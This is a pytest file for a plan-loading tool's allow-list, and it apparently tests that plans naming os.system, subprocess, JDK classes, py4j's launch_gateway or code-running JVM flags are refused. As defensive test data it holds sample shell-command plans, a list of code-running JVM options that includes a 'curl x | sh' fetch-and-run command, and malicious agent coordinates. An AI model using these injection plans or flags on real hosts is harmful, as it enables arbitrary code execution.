"""The trust boundary: which names a plan may make the host import or instantiate, checked before any import."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from bridge import OutputEvent
from bridge.cli import main
from bridge.errors import PlanError
from bridge.plan import check_allowed, plan_from_data
from bridge.plan._allow import check_resolved, named_code
from bridge.runtime import Runtime

ROOT = Path(__file__).resolve().parents[2]


def use_shell(event, ctx):
    """An action that builds the plan's ``shell`` resource (which runs the command when built)."""
    ctx.send_event(OutputEvent(output=ctx.get_resource("shell", "tool")))


def _action(module: str, qualname: str) -> dict:
    return {"name": "go", "exec": {"func_type": "PythonFunction", "module": module, "qualname": qualname},
            "trigger_conditions": ["_input_event"]}


def _java_action(cls: str) -> dict:
    return {"name": "go", "exec": {"func_type": "JavaFunction", "qualname": cls, "method_name": "run",
                                   "parameter_types": ["dev.bridge.api.Event", "dev.bridge.api.RunnerContext"]},
            "trigger_conditions": ["_input_event"]}


def _plan_data(action: dict | None = None, resources: dict | None = None) -> dict:
    return {"agent_name": "t", "actions": {"go": action or _action("test_allow", "use_shell")},
            "resource_providers": resources or {}}


def _shell_plan(marker: Path) -> dict:
    """A pure-data plan whose resource provider is ``os.system`` with a command that creates ``marker``."""
    shell = {"name": "shell", "type": "tool", "descriptor": {
        "target_module": "os", "target_clazz": "system", "arguments": {"command": f"touch {marker}"}}}
    return _plan_data(resources={"tool": {"shell": shell}})


@pytest.fixture(autouse=True)
def _no_env_allow_list(monkeypatch) -> None:
    monkeypatch.delenv("BRIDGE_ALLOW", raising=False)


def _refusal(data: dict, allow=None) -> str:
    with pytest.raises(PlanError) as info:
        check_allowed(plan_from_data(data), allow)
    return str(info.value)


# -- the shell-command plan ----------------------------------------------------------------------------------
def test_a_resource_provider_naming_os_system_is_refused_before_anything_runs(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    with pytest.raises(PlanError) as info:
        Runtime(plan_from_data(_shell_plan(marker)))
    message = str(info.value)
    assert "resource_providers.tool.shell.descriptor.target_module: os.system (Python standard library)" in message
    assert "a plan is code" in message
    assert "--allow os --allow test_allow" in message
    assert info.value.path == "resource_providers.tool.shell.descriptor.target_module"
    assert not marker.exists()


def test_bridge_run_refuses_the_shell_command_plan_with_exit_2(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps(_shell_plan(marker)))
    inputs = tmp_path / "in.jsonl"
    inputs.write_text('{"key": "a", "input": 1}\n')
    result = subprocess.run([sys.executable, "-m", "bridge.cli", "run", str(plan), "--input", str(inputs)],
                            cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert result.returncode == 2, result.stderr
    assert "os.system (Python standard library)" in result.stderr
    assert not marker.exists()


def test_an_explicit_allow_list_lets_the_plan_do_what_it_names(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    with Runtime(plan_from_data(_shell_plan(marker)), allow=["os", "test_allow"]) as runtime:
        report = runtime.run([("a", 1)])
    assert report.ok, report.errors
    assert report.outputs == [("a", 0)] and marker.exists()  # why a plan's names need a boundary


def test_an_allow_list_replaces_the_default_so_unlisted_modules_are_refused(tmp_path: Path) -> None:
    message = _refusal(_shell_plan(tmp_path / "pwned"), allow=["os"])
    assert "actions.go.exec.module: test_allow.use_shell (not in the allow list)" in message
    assert "--allow test_allow" in message and "os.system" not in message


# -- the prefix rule ---------------------------------------------------------------------------------------
@pytest.mark.parametrize(("module", "allowed"), [
    ("mypkg", True), ("mypkg.sub.deeper", True), ("mypkgevil", False), ("my", False), ("other.mypkg", False),
])
def test_a_prefix_allows_itself_and_what_is_inside_it_only(module: str, allowed: bool) -> None:
    plan = plan_from_data(_plan_data(_action(module, "handle")))
    if allowed:
        check_allowed(plan, ["mypkg"])
    else:
        with pytest.raises(PlanError, match=rf"{module}.handle \(not in the allow list\)"):
            check_allowed(plan, ["mypkg"])


def test_a_prefix_can_be_written_with_a_trailing_dot_or_star() -> None:
    plan = plan_from_data(_plan_data(_action("mypkg.sub", "handle")))
    check_allowed(plan, ["mypkg."])
    check_allowed(plan, ["mypkg.*"])


@pytest.mark.parametrize("entry", ["*", "my pkg", "a..b", "-x"])
def test_an_allow_entry_that_is_not_a_dotted_name_says_what_to_write(entry: str) -> None:
    with pytest.raises(PlanError, match=r"is not a dotted name prefix: write a Python module or a Java package"):
        check_allowed(plan_from_data(_plan_data()), [entry])


def test_bridge_allow_adds_comma_separated_prefixes_to_the_given_ones(monkeypatch, tmp_path: Path) -> None:
    plan = plan_from_data(_shell_plan(tmp_path / "pwned"))
    monkeypatch.setenv("BRIDGE_ALLOW", " os , ")
    assert "test_allow.use_shell (not in the allow list)" in _refusal(_shell_plan(tmp_path / "pwned"))
    check_allowed(plan, ["test_allow"])
    monkeypatch.setenv("BRIDGE_ALLOW", "os,test_allow")
    check_allowed(plan, None)


def test_bridges_own_code_is_always_allowed() -> None:
    check_allowed(plan_from_data(_plan_data(_action("python_actions.demo", "enrich"))), ["mypkg"])
    check_allowed(plan_from_data(_plan_data(_java_action("dev.bridge.examples.OrderActions"))), ["mypkg"])


def test_the_demo_plan_passes_the_default_check() -> None:
    from bridge.plan import load_plan

    check_allowed(load_plan(ROOT / "examples" / "demo" / "plan.yaml"), None)


# -- Java names --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("cls", ["java.lang.Runtime", "java.lang.ProcessBuilder", "javax.naming.InitialContext",
                                 "jdk.jshell.JShell", "sun.misc.Unsafe", "com.sun.jndi.ldap.LdapCtx"])
def test_jdk_classes_are_refused_by_default_as_actions_and_resources(cls: str) -> None:
    message = _refusal(_plan_data(_java_action(cls)))
    assert f"actions.go.exec.qualname: {cls} (JDK class)" in message
    resource = {"tool": {"t": {"name": "t", "type": "tool", "__resource_provider_type__": "JavaResourceProvider",
                               "descriptor": {"target_clazz": cls, "arguments": {}}}}}
    message = _refusal(_plan_data(resources=resource))
    assert f"resource_providers.tool.t.descriptor.target_clazz: {cls} (JDK class)" in message
    assert f"--allow {cls}" in message


def test_java_packages_named_like_python_modules_are_not_mistaken_for_the_standard_library() -> None:
    check_allowed(plan_from_data(_plan_data(_java_action("io.netty.Handlers"))), None)


def test_an_allow_list_covers_java_classes_by_package_prefix() -> None:
    plan = plan_from_data(_plan_data(_java_action("com.acme.tools.Actions")))
    assert "com.acme.tools.Actions (not in the allow list)" in _refusal(plan.to_dict(), ["com.acmex"])
    check_allowed(plan, ["com.acme"])


def test_jpype_is_refused_by_default_as_a_door_to_jdk_classes() -> None:
    assert "jpype.JClass (JPype" in _refusal(_plan_data(_action("jpype", "JClass")))


def test_py4j_is_refused_by_default_its_launch_gateway_runs_a_shell_command(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    door = {"name": "shell", "type": "tool", "descriptor": {
        "target_module": "py4j.java_gateway", "target_clazz": "launch_gateway",
        "arguments": {"java_path": f"touch {marker}", "use_shell": True, "die_on_exit": False}}}
    data = _plan_data(resources={"tool": {"shell": door}})
    message = _refusal(data)
    assert "target_module: py4j.java_gateway.launch_gateway (py4j, a door to every JDK class)" in message
    assert not marker.exists()
    with Runtime(plan_from_data(data), allow=["py4j", "test_allow"]) as runtime:  # why py4j needs the boundary
        runtime.run([("a", 1)])  # the build then fails: no JVM answers on the shell's output
    assert marker.exists()


# -- ways around a prefix ----------------------------------------------------------------------------------
def test_a_qualname_walking_through_an_imported_stdlib_module_is_refused() -> None:
    message = _refusal(_plan_data(_action("bridge.jvm._discovery", "os.system")))
    assert "actions.go.exec.qualname: bridge.jvm._discovery.os.system (reaches os.system through an import" in message
    message = _refusal(_plan_data(_action("python_actions.demo", "re.compile")), ["python_actions"])
    assert "reaches re.compile through an import: not in the allow list" in message


def test_dunder_attributes_are_refused_even_under_an_allowed_prefix() -> None:
    message = _refusal(_plan_data(_action("mypkg", "handle.__globals__")), ["mypkg"])
    assert "mypkg.handle.__globals__ (goes through __globals__, which a plan may not name)" in message


def test_every_refused_name_is_listed_in_one_error() -> None:
    data = _plan_data(_action("subprocess", "run"), {"tool": {
        "a": {"name": "a", "type": "tool", "descriptor": {"target_module": "builtins", "target_clazz": "exec"}},
        "b": {"name": "b", "type": "tool", "__resource_provider_type__": "JavaResourceProvider",
              "descriptor": {"target_clazz": "java.lang.Runtime"}}}})
    lines = [line for line in _refusal(data).splitlines() if line.startswith("  ")]
    assert lines == ["  actions.go.exec.module: subprocess.run (Python standard library)",
                     "  resource_providers.tool.a.descriptor.target_module: builtins.exec (Python standard library)",
                     "  resource_providers.tool.b.descriptor.target_clazz: java.lang.Runtime (JDK class)"]


def test_a_re_exported_stdlib_function_is_refused_after_import(monkeypatch, tmp_path: Path) -> None:
    (tmp_path / "reexporter.py").write_text("from subprocess import run\n\ndef mine():\n    pass\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    import reexporter

    plan = plan_from_data(_plan_data(_action("reexporter", "run")))
    check_allowed(plan, ["reexporter"])  # the name alone looks fine
    code = named_code(plan)[0]
    with pytest.raises(PlanError, match=r"reexporter.run is subprocess.run \(not in the allow list\)"):
        check_resolved(reexporter.run, code, ["reexporter"])
    check_resolved(reexporter.mine, named_code(plan_from_data(_plan_data(_action("reexporter", "mine"))))[0])


# -- bridge validate -----------------------------------------------------------------------------------------
def _write_plan(tmp_path: Path, data: dict) -> Path:
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(data))
    return path


def test_validate_imports_nothing_so_a_module_with_side_effects_does_not_run(monkeypatch, tmp_path) -> None:
    marker = tmp_path / "imported"
    (tmp_path / "noisy_actions.py").write_text(
        f"from pathlib import Path\nPath({str(marker)!r}).write_text('ran')\n\ndef act(event, ctx):\n    pass\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    plan = _write_plan(tmp_path, _plan_data(_action("noisy_actions", "act")))
    result = CliRunner().invoke(main, ["validate", str(plan)])
    assert result.exit_code == 0, result.output
    assert "is valid (names checked, nothing imported)" in result.output
    assert not marker.exists()
    result = CliRunner().invoke(main, ["validate", "--import", str(plan)])
    assert result.exit_code == 0, result.output
    assert "Python actions imported and resolved" in result.output
    assert marker.exists()


def test_validate_refuses_the_shell_command_plan(tmp_path: Path) -> None:
    plan = _write_plan(tmp_path, _shell_plan(tmp_path / "pwned"))
    result = CliRunner().invoke(main, ["validate", str(plan)])
    assert result.exit_code == 2
    assert "os.system (Python standard library)" in result.output
    assert CliRunner().invoke(main, ["validate", str(plan), "--allow", "os", "--allow", "test_allow"]).exit_code == 0


def test_validate_import_refuses_a_re_exported_stdlib_function(monkeypatch, tmp_path: Path) -> None:
    (tmp_path / "reexporter2.py").write_text("from subprocess import run\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    plan = _write_plan(tmp_path, _plan_data(_action("reexporter2", "run")))
    assert CliRunner().invoke(main, ["validate", str(plan)]).exit_code == 0
    result = CliRunner().invoke(main, ["validate", "--import", str(plan)])
    assert result.exit_code == 2
    assert "reexporter2.run is subprocess.run (Python standard library)" in result.output


def test_validate_help_says_a_plan_is_code() -> None:
    result = CliRunner().invoke(main, ["validate", "--help"])
    assert "A plan is code" in result.output and "--allow" in result.output and "--import" in result.output


def test_a_runtime_refuses_an_allowed_name_that_is_a_re_exported_standard_library_function(tmp_path, monkeypatch):
    from bridge import PlanError, Runtime
    from bridge.plan import plan_from_data

    (tmp_path / "reexporting_pkg.py").write_text("from subprocess import run\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    plan = plan_from_data({"agent_name": "t", "actions": {"a": {"name": "a", "exec": {
        "func_type": "PythonFunction", "module": "reexporting_pkg", "qualname": "run"},
        "trigger_conditions": ["_input_event"]}}})
    with pytest.raises(PlanError, match="subprocess.run"):
        Runtime(plan, allow=["reexporting_pkg"])


# -- JVM settings from the plan ------------------------------------------------------------------------------
def _with_conf(conf: dict) -> dict:
    return {**_plan_data(_action("python_actions.demo", "enrich")), "config": {"conf_data": conf}}


CODE_RUNNING_FLAGS = ["-XX:OnOutOfMemoryError=touch /tmp/pwned", "-XX:OnError=sh -c 'curl x | sh'",
                      "-javaagent:/tmp/agent.jar", "-agentpath:/tmp/libagent.so", "-agentlib:jdwp=transport=dt_socket",
                      "-Xrunhprof", "-XX:VMOptionsFile=/tmp/more-flags", "-XX:Flags=/tmp/.hotspotrc",
                      # what the java launcher of the py4j mode reads: an argument file (which may hold any of
                      # the above), and the code to run instead of bridge's gateway
                      "@/tmp/more-flags", "-jar", "--module=evil/evil.Main", "--source"]


@pytest.mark.parametrize("flag", CODE_RUNNING_FLAGS)
@pytest.mark.parametrize("form", ["list", "string"])
def test_a_plan_may_not_set_jvm_flags_that_run_code(flag: str, form: str, tmp_path: Path) -> None:
    options = ["-Xmx1g", flag] if form == "list" else "-Xmx1g " + shlex.join([flag])
    data = _with_conf({"bridge.jvm.options": options})
    with pytest.raises(PlanError) as info:
        Runtime(plan_from_data(data))
    message = str(info.value)
    assert info.value.path == "config.conf_data.bridge.jvm.options"
    assert flag.split("=")[0].split(":")[0][:8] in message and "BRIDGE_JVM_OPTIONS" in message
    assert "not to the plan" in message and "-Xmx1g" not in message
    # an allow list does not make them acceptable: they are not names, they are the process owner's choice
    with pytest.raises(PlanError, match="BRIDGE_JVM_OPTIONS"):
        check_allowed(plan_from_data(data), ["python_actions"])


def test_a_bad_quote_does_not_hide_a_code_running_flag() -> None:
    data = _with_conf({"bridge.jvm.options": "-javaagent:/tmp/a.jar -Dx='unbalanced"})
    with pytest.raises(PlanError, match="-javaagent"):
        check_allowed(plan_from_data(data))


def test_ordinary_jvm_flags_and_java_home_without_an_allow_list_are_the_plans_to_set() -> None:
    check_allowed(plan_from_data(_with_conf({"bridge.jvm.options": ["-Xmx2g", "-Dgreeting=hi", "-XX:+UseG1GC"],
                                             "bridge.jvm.java_home": "/usr/lib/jvm/some-jdk"})))


def test_a_plan_may_not_choose_the_jdk_when_an_allow_list_is_given(monkeypatch) -> None:
    data = _with_conf({"bridge.jvm.java_home": "/tmp/evil-jdk"})
    with pytest.raises(PlanError) as info:
        check_allowed(plan_from_data(data), ["python_actions"])
    assert info.value.path == "config.conf_data.bridge.jvm.java_home"
    assert "set JAVA_HOME" in str(info.value) and "/tmp/evil-jdk" in str(info.value)
    monkeypatch.setenv("BRIDGE_ALLOW", "python_actions")
    with pytest.raises(PlanError, match="set JAVA_HOME"):
        Runtime(plan_from_data(data))


def test_a_plan_may_not_list_maven_coordinates_when_an_allow_list_is_given() -> None:
    data = _with_conf({"bridge.jvm.maven": ["org.evil:agent:1.0"]})
    check_allowed(plan_from_data(data))  # without an allow list the plan's to set
    with pytest.raises(PlanError) as info:
        check_allowed(plan_from_data(data), ["python_actions"])
    assert info.value.path == "config.conf_data.bridge.jvm.maven"
    assert "set BRIDGE_MAVEN" in str(info.value) and "org.evil:agent:1.0" in str(info.value)


def test_bridge_run_and_validate_refuse_a_plan_setting_on_error_before_anything_runs(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    (tmp_path / "marker_action.py").write_text(
        f"from pathlib import Path\n\ndef act(event, ctx):\n    Path({str(marker)!r}).write_text('ran')\n")
    data = {**_plan_data(_action("marker_action", "act")),
            "config": {"conf_data": {"bridge.jvm.options": [f"-XX:OnError=touch {marker}"]}}}
    plan = _write_plan(tmp_path, data)
    inputs = tmp_path / "in.jsonl"
    inputs.write_text('{"key": "a", "input": 1}\n')
    result = subprocess.run([sys.executable, "-m", "bridge.cli", "run", str(plan), "--input", str(inputs)],
                            cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert result.returncode == 2, result.stderr
    assert "config.conf_data.bridge.jvm.options" in result.stderr and "BRIDGE_JVM_OPTIONS" in result.stderr
    assert not marker.exists()
    checked = CliRunner().invoke(main, ["validate", str(plan)])
    assert checked.exit_code == 2 and "-XX:OnError" in checked.output


def test_the_process_owner_may_still_pass_such_flags_in_bridge_jvm_options(monkeypatch) -> None:
    from bridge.jvm._discovery import options_from_config

    monkeypatch.setenv("BRIDGE_JVM_OPTIONS", "-XX:OnOutOfMemoryError=true")
    assert "-XX:OnOutOfMemoryError=true" in options_from_config({}).jvm_args


def test_an_output_schema_named_in_the_config_is_checked_like_any_name_the_plan_gives() -> None:
    from bridge import PlanError, Runtime

    plan = plan_from_data({"agent_name": "t", "actions": {"react": {"name": "react", "exec": {
        "func_type": "PythonFunction", "module": "python_actions.react", "qualname": "react"},
        "trigger_conditions": ["_input_event"], "config": {"output_schema": "subprocess.Popen"}}}})
    with pytest.raises(PlanError, match=r"actions\.react\.config\.output_schema"):
        Runtime(plan)
    conf_plan = plan_from_data({"agent_name": "t", "actions": {}, "config": {"conf_data": {
        "agents.output_schema": "os.system"}}})
    with pytest.raises(PlanError, match=r"agents\.output_schema"):
        Runtime(conf_plan)
